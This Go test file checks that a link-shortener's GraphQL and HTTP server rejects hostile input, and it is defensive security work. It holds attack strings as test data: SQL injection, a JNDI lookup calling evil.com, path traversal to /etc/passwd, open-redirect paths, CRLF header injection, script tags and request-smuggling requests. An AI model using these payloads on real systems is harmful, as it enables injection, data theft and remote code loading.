package main

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/linkforge/linkforge/internal/must"
)

// operation is a hostile document.
func operation(document string) hostile {
	return hostile{body: `{"query": ` + strconv.Quote(document) + `}`}
}

// bomb is a document whose fragments spread to width^depth fields.
func bomb(width, depth int) string {
	var text strings.Builder
	text.WriteString("{ ...f0 }")
	for i := range depth {
		fmt.Fprintf(&text, " fragment f%d on Query {%s }", i, strings.Repeat(fmt.Sprintf(" ...f%d", i+1), width))
	}
	fmt.Fprintf(&text, " fragment f%d on Query { platformStats { totalLinks } }", depth)
	return text.String()
}

// hostileDocuments are documents that are refused before anything is executed.
func hostileDocuments() map[string]hostile {
	tooComplex := func(document string) hostile {
		h := operation(document)
		h.code = "COMPLEXITY_LIMIT_EXCEEDED"
		return h
	}
	flood := func(document string) hostile {
		h := operation(document)
		h.code = tooLarge
		return h
	}
	nested := strings.Repeat("links { edges { node { workspace { ", 6) + "id" + strings.Repeat(" }", 6*4)
	aliases := func(n int, field string) string {
		var text strings.Builder
		for i := range n {
			fmt.Fprintf(&text, " a%d: %s", i, field)
		}
		return "{" + text.String() + " }"
	}
	return map[string]hostile{
		"unknown id": {body: `{"documentId": "` + marker + `"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
		"unknown hash": {body: `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "` + strings.Repeat("0",
			64) + `"}}}`, code: "PERSISTED_QUERY_NOT_FOUND"},
		"another version": {body: `{"extensions": {"persistedQuery": {"version": "` + marker + `"}}}`},
		"a hash of words": {body: `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash":
			"` + marker + `"}}}`},
		"another one's hash": {body: `{"query": "{ me { id } }", "documentId":
			"sha256:` + strings.Repeat("0", 64) + `"}`},
		"id of a list":        {body: `{"documentId": ["` + marker + `"]}`},
		"syntax":              operation("{ me { id "),
		"not GraphQL":         operation(`SELECT "` + marker + `" FROM accounts`),
		"only a comment":      operation("# " + marker),
		"only a fragment":     operation("fragment f on Query { __typename }"),
		"control characters":  {body: `{"query": "{ me\u0000 { id } }"}`},
		"unterminated string": operation(`{ node(id: "` + marker),
		"invalid UTF-8":       {body: "{\"query\": \"{ \xff\xfe }\"}"},
		"unknown field":       operation("{ me { passwordHash } }"),
		"unknown argument":    operation(`{ node(id: "1", secret: "` + marker + `") { id } }`),
		"unknown type":        operation("query ($x: Secret) { __typename }"),
		"unknown directive":   operation("{ me @secret { id } }"),
		"unknown fragment":    operation("{ ...f }"),
		"no selection":        operation("{ me }"),
		"selection of a leaf": operation("{ me { id { id } } }"),
		"missing argument":    operation("{ node { id } }"),
		"unused variable":     operation("query ($x: Int) { __typename }"),
		"undefined variable":  operation("{ node(id: $x) { id } }"),
		"subscription":        operation("subscription { me { id } }"),
		"fragment in a ring":  operation("{ ...f } fragment f on Query { ...g } fragment g on Query { ...f }"),
		"fragment in itself":  operation("{ ...f } fragment f on Query { ...f }"),

		"nested braces":    flood(strings.Repeat("{ me ", 50_000)),
		"nested lists":     flood("{ node(id: " + strings.Repeat("[", 50_000)),
		"nested objects":   flood("{ node(id: " + strings.Repeat("{a: ", 50_000)),
		"repeated fields":  flood("{ " + strings.Repeat("me { id } ", 10_000) + "}"),
		"directive flood":  flood("{ me " + strings.Repeat("@skip(if: false) ", 10_000) + "{ id } }"),
		"some directives":  flood("{ me " + strings.Repeat("@a", 400) + " { id } }"),
		"repeated skip":    operation("{ me " + strings.Repeat("@skip(if: false) ", 40) + "{ id } }"),
		"many skips":       tooComplex("{ me " + strings.Repeat("@skip(if: false) ", 120) + "{ id } }"),
		"some aliases":     tooComplex(aliases(150, "__typename")),
		"some repetitions": tooComplex("{ me {" + strings.Repeat(" id", 500) + " } }"),
		"unlit bomb":       tooComplex("{ __typename " + strings.TrimPrefix(bomb(2, 30), "{ ...f0 }") + " }"),
		"fragments in all": operation("{ ...f } fragment f on Query { ...g ...h } fragment g on Query { ...f ...h } " +
			"fragment h on Query { ...f ...g }"),
		"aliases":       flood(aliases(1000, "platformStats { totalLinks }")),
		"variables":     flood("query (" + strings.Repeat("$x: Int ", 5000) + ") { __typename }"),
		"operations":    flood(strings.Repeat("query { __typename } ", 1000)),
		"long name":     flood("{ " + strings.Repeat("x", 100_000) + " }"),
		"nested fields": tooComplex(`{ me { workspaces { edges { node { ` + nested + ` } } } } }`),
		"dear pages": tooComplex(`{ me { workspaces(first: 100) { edges { node { links(first: 100) { edges { node
			{ id } } } } } } } }`),
		"a bomb of 2^22":    tooComplex(bomb(2, 22)),
		"a bomb of 2^100":   tooComplex(bomb(4, 50)),
		"overlapping bombs": tooComplex("{ ...f0 ...f0 ...f1 " + strings.TrimPrefix(bomb(2, 30), "{")),
	}
}

// wrongTypes are arguments and variables of another type than the schema's.
func wrongTypes(t *testing.T, who tenant) {
	const (
		links  = `query ($x: Int) { me { workspaces(first: $x) { edges { cursor } } } }`
		create = `mutation ($x: CreateLinkInput!) { createLink(input: $x) { created } }`
		node   = `query ($x: ID!) { node(id: $x) { id } }`
	)
	input := func(field string, value any) map[string]any {
		return map[string]any{"workspaceId": who.workspaceID, "url": "https://example.com/", field: value}
	}
	for name, c := range map[string]struct {
		query string
		value any
	}{
		"Int above 32 bits":      {links, 1 << 31},
		"Int above 64 bits":      {links, 1e30},
		"Int is a fraction":      {links, 1.5},
		"Int is a string":        {links, marker},
		"Int is a list":          {links, []string{marker}},
		"ID is null":             {node, nil},
		"ID is an object":        {node, map[string]any{marker: marker}},
		"ID is a list":           {node, []any{marker, marker}},
		"String is a number":     {create, input("url", 7)},
		"String is an object":    {create, input("url", map[string]any{"a": marker})},
		"String is null":         {create, input("url", nil)},
		"Int64 is a string":      {create, input("maxClicks", "5")},
		"Int64 is a fraction":    {create, input("maxClicks", 1.5)},
		"literal ID is empty":    {`{ node(id: {}) { id } }`, nil},
		"directive is an object": {`{ __typename @skip(if: {}) }`, nil},
		"Time without a zone":    {create, input("expiresAt", "2030-01-01T00:00:00")},
		"Time is a day":          {create, input("expiresAt", "2030-01-01")},
		"Time is no day":         {create, input("expiresAt", "2030-02-30T00:00:00Z")},
		"Time is a number":       {create, input("expiresAt", 1893456000)},
		"Time is words":          {create, input("expiresAt", marker)},
		"Time in year 0":         {create, input("startsAt", "0000-01-01T00:00:00Z")},
		"unknown enum":           {create, input("strategy", marker)},
		"enum in lower case":     {create, input("strategy", "deterministic")},
		"custom in lower case": {create, map[string]any{"workspaceId": who.workspaceID, "url": "https://example.com/",
			"strategy": "custom", "customCode": "lower"}},
		"interval in lower case": {`query ($x: Interval!) { link(by: {id: "1"}) { stats { series(interval: $x) { clicks }
			} } }`, "month"},
		"unknown input field":   {create, input("ownerId", marker)},
		"input is a string":     {create, marker},
		"input is null":         {create, nil},
		"input is empty":        {create, map[string]any{}},
		"variable missing":      {`query ($y: ID!) { node(id: $y) { id } }`, marker},
		"literal overflow":      {`{ me { workspaces(first: 99999999999999999999) { edges { cursor } } } }`, nil},
		"literal enum":          {`{ link(by: {id: "1"}) { stats { series(interval: SECOND) { clicks } } } }`, nil},
		"literal null":          {`{ node(id: null) { id } }`, nil},
		"literal of wrong type": {`{ node(id: {a: "` + marker + `"}) { id } }`, nil},
		"variable of a type":    {`query ($x: Int) { node(id: $x) { id } }`, 1},
		"one of two":            {`{ link(by: {id: "1", shortUrl: "2"}) { id } }`, nil},
		"one of none":           {`{ link(by: {}) { id } }`, nil},
		"one of null":           {`{ link(by: {id: null}) { id } }`, nil},
		"one of two variables": {`query ($x: LinkBy!) { link(by: $x) { id } }`,
			map[string]any{"id": marker, "shortUrl": marker}},
		"one of no variable": {`query ($x: WorkspaceBy!) { workspace(by: $x) { id } }`, map[string]any{}},
		"one of a null":      {`query ($x: WorkspaceBy!) { workspace(by: $x) { id } }`, map[string]any{"slug": nil}},
	} {
		t.Run(name, func(t *testing.T) {
			began := time.Now()
			variables := map[string]any{}
			if strings.Contains(c.query, "$") {
				variables["x"] = c.value
			}
			a := must.Value(who.run(c.query, variables))(t)
			harmless(t, a, began)
			if a.code() != "BAD_REQUEST" || a.status != http.StatusBadRequest {
				t.Errorf("status %d: %.500s", a.status, a.body)
			}
		})
	}
	if used := who.linksUsed(t); used != 0 {
		t.Errorf("%d links were made", used)
	}
}

// stringArguments are operations with $x for every argument that takes text, without those whose
// password is hashed.
var stringArguments = map[string]string{
	"register email": `mutation ($x: EmailAddress!) { register(input: {email: $x, password: "short", name: "n"}) {
		errors { code } } }`,
	"register name": `mutation ($x: String!) { register(input: {email: "n@example.com", password: "short", name:
		$x}) { errors { code } } }`,
	"refresh token":  `mutation ($x: String!) { refreshSession(input: {refreshToken: $x}) { errors { code } } }`,
	"logout id":      `mutation ($x: ID!) { logout(input: {sessionId: $x}) { errors { code } } }`,
	"sessions after": `query ($x: String!) { me { sessions(after: $x) { edges { cursor } } } }`,
	"workspace name": `mutation ($x: String!) { createWorkspace(input: {name: $x, slug: "-"}) { errors { code } } }`,
	"workspace slug": `mutation ($x: String!) { createWorkspace(input: {name: "n", slug: $x}) { errors { code } } }`,
	"nodes ids":      `query ($x: ID!) { nodes(ids: [$x, $x]) { id } }`,
	"createLink id": `mutation ($x: ID!) { createLink(input: {workspaceId: $x, url: "https://example.com"}) {
		errors { code } } }`,
	"createLink url": `mutation ($x: String!, $w: ID!) { createLink(input: {workspaceId: $w, url: $x}) { errors {
		code } } }`,
	"createLink path": `mutation ($u: String!, $w: ID!) { createLink(input: {workspaceId: $w, url: $u}) { errors {
		code } } }`,
	"createLink code": `mutation ($x: String!, $w: ID!) { createLink(input: {workspaceId: $w, url:
		"https://example.com", customCode: $x}) { errors { code } } }`,
	"createLink title": `mutation ($x: String!, $w: ID!) { createLink(input: {workspaceId: $w, url:
		"https://example.com/t", title: $x}) { errors { code } } }`,
	"createLink note": `mutation ($x: String!, $w: ID!) { createLink(input: {workspaceId: $w, url:
		"https://example.com/n", note: $x}) { errors { code } } }`,
	"createLink tag": `mutation ($x: String!, $w: ID!) { createLink(input: {workspaceId: $w, url:
		"https://example.com/g", tags: [$x]}) { errors { code } } }`,
	"idempotency key": `mutation ($x: String!, $w: ID!) { createLink(input: {workspaceId: $w, url:
		"https://example.com/k", idempotencyKey: $x}) { errors { code } } }`,
	"export id": `mutation ($x: ID!) { exportClicks(input: {workspaceId: $x}) { errors { code } } }`,
	"export link": `mutation ($x: ID!, $w: ID!) { exportClicks(input: {workspaceId: $w, linkId: $x}) { errors {
		code } } }`,
	"export filter": `mutation ($x: String!, $w: ID!) { exportClicks(input: {workspaceId: $w, filter: {utmSource:
		$x}}) { errors { code } } }`,
	"stats zone": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { stats(timezone: $x) { clicks } } }`,
	"stats tag":  `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { stats(tag: $x) { clicks } } }`,
	"stats filter": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { stats(filter: {referrer: $x}) {
		clicks latency { p50Ms } } } }`,
	"stats filters": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { stats(filter: {os: $x, utmTerm:
		$x}) { clicks series(interval: DAY) { clicks } } } }`,
	"events after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { clicks(after: $x) { edges { cursor
		} } } }`,
	"clicks filter": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { clicks(filter: {country: $x}) {
		edges { cursor } } } }`,
	"updateLink url": `mutation ($x: String!, $l: ID!) { updateLink(input: {id: $l, url: $x}) { errors { code } } }`,
	"updateLink tag": `mutation ($x: String!, $l: ID!) { updateLink(input: {id: $l, tags: [$x]}) { errors { code }
		} }`,
	"updateLinks id": `mutation ($x: ID!, $w: ID!) { updateLinks(input: {workspaceId: $w, links: [{id: $x, title:
		"t"}]}) { errors { code } } }`,
	"deleteLinks id": `mutation ($x: ID!, $w: ID!) { deleteLinks(input: {workspaceId: $w, ids: [$x]}) { errors {
		code } } }`,
	"anonymous url": `mutation ($x: String!) { createAnonymousLink(input: {url: $x}) { errors { code } } }`,
	"claim token": `mutation ($x: String!, $w: ID!) { claimLinks(input: {workspaceId: $w, claimTokens: [$x]}) {
		errors { code } } }`,
	"report url": `mutation ($x: String!) { reportLink(input: {shortUrl: $x, reason: OTHER}) { errors { code }
		} }`,
	"report details": `mutation ($x: String!) { reportLink(input: {shortUrl: "x", reason: OTHER, details: $x}) {
		errors { code } } }`,
	"verify token": `mutation ($x: String!) { verifyEmail(input: {token: $x}) { errors { code } } }`,
	"verify address": `mutation ($x: EmailAddress!) { requestEmailVerification(input: {email: $x}) { errors { code
		} } }`,
	"reset token": `mutation ($x: String!) { resetPassword(input: {token: $x, newPassword: "a good password"}) {
		errors { code } } }`,
	"export after": `mutation ($x: String!) { exportMyData(input: {password: "wrong", after: $x}) { errors { code
		} } }`,
	"settings slug": `mutation ($x: String!, $w: ID!) { updateWorkspace(input: {id: $w, slug: $x}) { errors { code
		} } }`,
	"delete workspace":  `mutation ($x: ID!) { deleteWorkspace(input: {id: $x}) { errors { code } } }`,
	"restore workspace": `mutation ($x: ID!) { restoreWorkspace(input: {id: $x}) { errors { code } } }`,
	"invite address": `mutation ($x: EmailAddress!, $w: ID!) { inviteMember(input: {workspaceId: $w, email: $x,
		role: VIEWER}) { errors { code } } }`,
	"invitation token": `mutation ($x: String!) { acceptInvitation(input: {token: $x}) { errors { code } } }`,
	"invitation id":    `mutation ($x: ID!) { revokeInvitation(input: {id: $x}) { errors { code } } }`,
	"member id": `mutation ($x: ID!, $w: ID!) { updateMemberRole(input: {workspaceId: $w, userId: $x, role:
		VIEWER}) { errors { code } } }`,
	"removed member": `mutation ($x: ID!, $w: ID!) { removeMember(input: {workspaceId: $w, userId: $x}) { errors {
		code } } }`,
	"new owner": `mutation ($x: ID!, $w: ID!) { transferOwnership(input: {workspaceId: $w, userId: $x}) {
		errors { code } } }`,
	"key name": `mutation ($x: String!, $w: ID!) { createApiKey(input: {workspaceId: $w, name: $x, scopes:
		[LINKS_READ]}) { errors { code } } }`,
	"key id": `mutation ($x: ID!) { revokeApiKey(input: {id: $x}) { errors { code } } }`,
	"domain host": `mutation ($x: String!, $w: ID!) { addDomain(input: {workspaceId: $w, host: $x}) { errors {
		code } } }`,
	"domain id":      `mutation ($x: ID!) { verifyDomain(input: {id: $x}) { errors { code } } }`,
	"removed domain": `mutation ($x: ID!) { removeDomain(input: {id: $x}) { errors { code } } }`,
	"primary domain": `mutation ($x: ID!, $w: ID!) { updateWorkspace(input: {id: $w, primaryDomainId: $x}) {
		errors { code } } }`,
	"audit actor": `query ($x: ID!, $w: ID!) { workspace(by: {id: $w}) { auditLog(filter: {actorId: $x}) { edges
		{ cursor } } } }`,
	"audit target": `query ($x: ID!, $w: ID!) { workspace(by: {id: $w}) { auditLog(filter: {subjectId: $x}) {
		edges { cursor } } } }`,
	"audit after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { auditLog(after: $x) { edges {
		cursor } } } }`,
	"members after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { members(after: $x) { edges { cursor
		} } } }`,
	"keys after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { apiKeys(after: $x) { edges { cursor
		} } } }`,
	"domains after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { domains(after: $x) { edges { cursor
		} } } }`,
	"invitations after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { invitations(after: $x) { edges {
		cursor } } } }`,
	"settings name": `mutation ($x: String!, $w: ID!) { updateWorkspace(input: {id: $w, name: $x}) { errors { code
		} } }`,
	"search": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { links(filter: {search: $x}) {
		totalCount } } }`,
	"tag filter": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { links(filter: {tags: [$x],
		tagMatch: ALL}) { totalCount } } }`,
	"created": `query ($x: Time!, $w: ID!) { workspace(by: {id: $w}) { links(filter: {createdFrom: $x,
		createdTo: $x}) { totalCount } } }`,
	"clicks after": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { links(after: $x, orderBy: {field:
		CLICKS}) { edges { cursor } } } }`,
	"titles before": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { links(last: 2, before: $x, orderBy:
		{field: TITLE}) { edges { cursor } } } }`,
	"deleteLink id":     `mutation ($x: ID!) { deleteLink(input: {id: $x}) { errors { code } } }`,
	"node id":           `query ($x: ID!) { node(id: $x) { id } }`,
	"workspace by id":   `query ($x: ID!) { workspace(by: {id: $x}) { id } }`,
	"workspace by slug": `query ($x: String!) { workspace(by: {slug: $x}) { id } }`,
	"link by id":        `query ($x: ID!) { link(by: {id: $x}) { id } }`,
	"link by shortUrl":  `query ($x: String!) { link(by: {shortUrl: $x}) { id } }`,
	"previewCode id":    `query ($x: ID!) { previewCode(workspaceId: $x, url: "https://example.com") { codes } }`,
	"previewCode url":   `query ($x: String!, $w: ID!) { previewCode(workspaceId: $w, url: $x) { codes } }`,
	"after":             `query ($x: String!) { me { workspaces(after: $x) { edges { cursor } } } }`,
	"links before": `query ($x: String!, $w: ID!) { workspace(by: {id: $w}) { links(last: 1, before: $x) { edges
		{ cursor } } } }`,
	"timezone": `query ($x: String!, $l: ID!) { link(by: {id: $l}) { stats(timezone: $x) { clicks } } }`,
	"time": `query ($x: Time!, $l: ID!) { link(by: {id: $l}) { stats(range: {from: $x, to: $x}) { clicks
		} } }`,
}

// hostileText is JSON string literals, as they stand in a body.
var hostileText = []string{
	`"\u0000` + marker + `"`, `"` + marker + `\u0001\u001f\u007f\u0085\u2028"`, "\"" + marker + "\xff\xfe\xc0\xaf\"",
	`"` + marker + `\ud800"`, `"' OR '1'='1' -- ` + marker + `"`, `"\"; DROP TABLE links; -- ` + marker + `"`,
	`"%s%n%00 {{.}} ${jndi:ldap://evil.com/` + marker + `}"`, `"../../../../etc/passwd"`, `""`, `" "`,
	`"\ufeff\u202e` + marker + `"`,
	`"` + strings.Repeat(marker, 8000) + `"`, `"Local"`, `"? ?0 ?1"`,
}

// hostileStrings puts hostile text into every argument that takes text.
func hostileStrings(t *testing.T, who tenant) {
	linkID := who.shorten(t, "https://example.com/strings").Link.ID
	for name, query := range stringArguments {
		t.Run(name, func(t *testing.T) {
			for _, text := range hostileText {
				under := `"https://example.com/` + text[1:]
				body := fmt.Sprintf(`{"query": %q, "variables": {"x": %s, "u": %s, "w": %q, "l":
					%q}}`, query, text, under,
					who.workspaceID, linkID)
				began := time.Now()
				a := must.Value(who.post([]byte(body)))(t)
				harmless(t, a, began)
				if a.status != http.StatusOK && a.status != http.StatusBadRequest {
					t.Errorf("%.100q: status %d: %.500s", text, a.status, a.body)
				}
			}
		})
	}
	t.Run("passwords", func(t *testing.T) {
		// A password of any characters logs in, and no other does.
		password := "\x00\x01 ' OR 1=1 \u202e" + strings.Repeat("long", 30) + "ä" + marker
		credentials := map[string]any{"email": "odd@example.com", "password": password}
		var got struct {
			Register, Login struct {
				Token  *string
				Errors []userError
			}
		}
		who.must(t, &got, `mutation ($email: EmailAddress!, $password: String!) {
			register(input: {email: $email, password: $password, name: "n"}) { token errors { code message field } }
		}`, credentials)
		const login = `mutation ($email: EmailAddress!, $password: String!) {
			login(input: {email: $email, password: $password}) { token errors { code message field } }
		}`
		who.must(t, &got, login, credentials)
		if got.Register.Token == nil || got.Login.Token == nil {
			t.Errorf("an odd password: %+v", got)
		}
		credentials["password"] = strings.Replace(password, "ä", "a", 1)
		got.Login.Token = nil
		who.must(t, &got, login, credentials)
		if got.Login.Token != nil || len(got.Login.Errors) != 1 || got.Login.Errors[0].Code != "BAD_CREDENTIALS" {
			t.Errorf("a password that differs past 72 bytes: %+v", got.Login)
		}
	})
}

// raw sends a request as it is written, which no client would.
func (s *server) raw(t *testing.T, request string) answer {
	t.Helper()
	conn, err := net.Dial("tcp", s.address)
	must.NoError(t, err)
	defer conn.Close()
	must.NoError(t, conn.SetDeadline(time.Now().Add(patience)))
	must.Value(io.WriteString(conn, request))(t)
	method, _, _ := strings.Cut(request, " ")
	response, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: method})
	if errors.Is(err, syscall.ECONNRESET) { // the server may close the connection on invalid HTTP
		return answer{status: http.StatusBadRequest}
	}
	must.NoError(t, err)
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil && !errors.Is(err, syscall.ECONNRESET) {
		t.Fatal(err)
	}
	return answer{response.StatusCode, response.Header, string(body)}
}

// hostilePaths requests invalid short URLs. None redirects to another server.
func hostilePaths(t *testing.T, s *server) {
	for _, path := range []string{
		"/%00", "/%ff", "/%0d%0aSet-Cookie:x", "/..%2f", "/..%2f..%2fetc%2fpasswd", "/../../etc/passwd", "//evil.com",
		"///evil.com/%2e%2e", "/%2f%2fevil.com", "/%5c%5cevil.com", `/\evil.com`, "/.//evil.com", "/a//evil.com", "/a/b/c",
		"/graphql/", "/victim",
		"/victim/", "/VICTIM/abc", "/" + strings.Repeat("x", 10_000), "/" + strings.Repeat("%41/", 3000), "/' OR 1=1 --",
		"/<script>" + marker,
		"/%3Cscript%3E" + marker, "/.well-known/security.txt", "/livez/", "/playground/x", "/?" + marker,
		"/abc;x=" + marker,
		"http://evil.com/", "http://evil.com/abc", "*",
	} {
		for _, accept := range []string{"text/html", "*/*"} {
			began := time.Now()
			a := s.raw(t, "GET "+strings.ReplaceAll(path, " ",
				"%20")+" HTTP/1.1\r\nHost: "+s.address+"\r\nAccept: "+accept+"\r\nConnection: close\r\n\r\n")
			shown := a.header.Get("Location")
			if a.header.Del("Location"); shown != "" && (shown[0] != '/' || strings.HasPrefix(shown, "//") ||
				strings.ContainsAny(shown, `\`)) {
				t.Errorf("%.100s leads to %q", path, shown)
			}
			harmless(t, answer{a.status, a.header, strings.ReplaceAll(a.body, shown, "")}, began)
			if a.status < 300 || a.status == http.StatusFound {
				t.Errorf("%.100s: status %d: %.300s", path, a.status, a.body)
			}
			if a.header.Get("Set-Cookie") != "" || strings.Contains(a.body, "<script>") {
				t.Errorf("%.100s: %v %.300s", path, a.header, a.body)
			}
		}
	}
	for name, host := range map[string]string{
		"another": "evil.com", "with markup": "<script>" + marker, "with an @": marker + "@evil.com", "empty": "",
		"long":   strings.Repeat("x", 5000),
		"a path": "evil.com/" + marker, "not ASCII": "\xff\xfe", "a port": "evil.com:99999",
	} {
		for _, path := range []string{"/", "/nosuchcode", "/graphql?query=%7B__typename%7D", "/playground", "//double"} {
			began := time.Now()
			a := s.raw(t, "GET "+path+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
			harmless(t, a, began)
			if location := a.header.Get("Location"); strings.Contains(location, "evil") || strings.HasPrefix(location, "//") {
				t.Errorf("Host %s: %s leads to %s", name, path, location)
			}
			if strings.Contains(a.body, "evil.com") {
				t.Errorf("Host %s is in the answer to %s: %.300s", name, path, a.body)
			}
		}
	}
	for name, request := range map[string]string{
		"not HTTP":    marker + "\r\n\r\n",
		"no host":     "GET / HTTP/1.1\r\n\r\n",
		"two lengths": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n",
		"length and chunks": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " +
			"4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
		"broken chunks": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: " +
			"chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
		"large header": "GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat(marker, 10_000) + "\r\n\r\n",
		"CONNECT":      "CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\nConnection: close\r\n\r\n",
		"TRACE":        "TRACE / HTTP/1.1\r\nHost: x\r\nX-Secret: " + marker + "\r\nConnection: close\r\n\r\n",
		"a request id": "GET /nosuchcode HTTP/1.1\r\nHost: x\r\nX-Request-Id: <" + marker +
			">\r\nConnection: close\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			began := time.Now()
			a := s.raw(t, request)
			harmless(t, a, began)
			if a.status < 400 {
				t.Errorf("status %d: %.300s", a.status, a.body)
			}
		})
	}
}
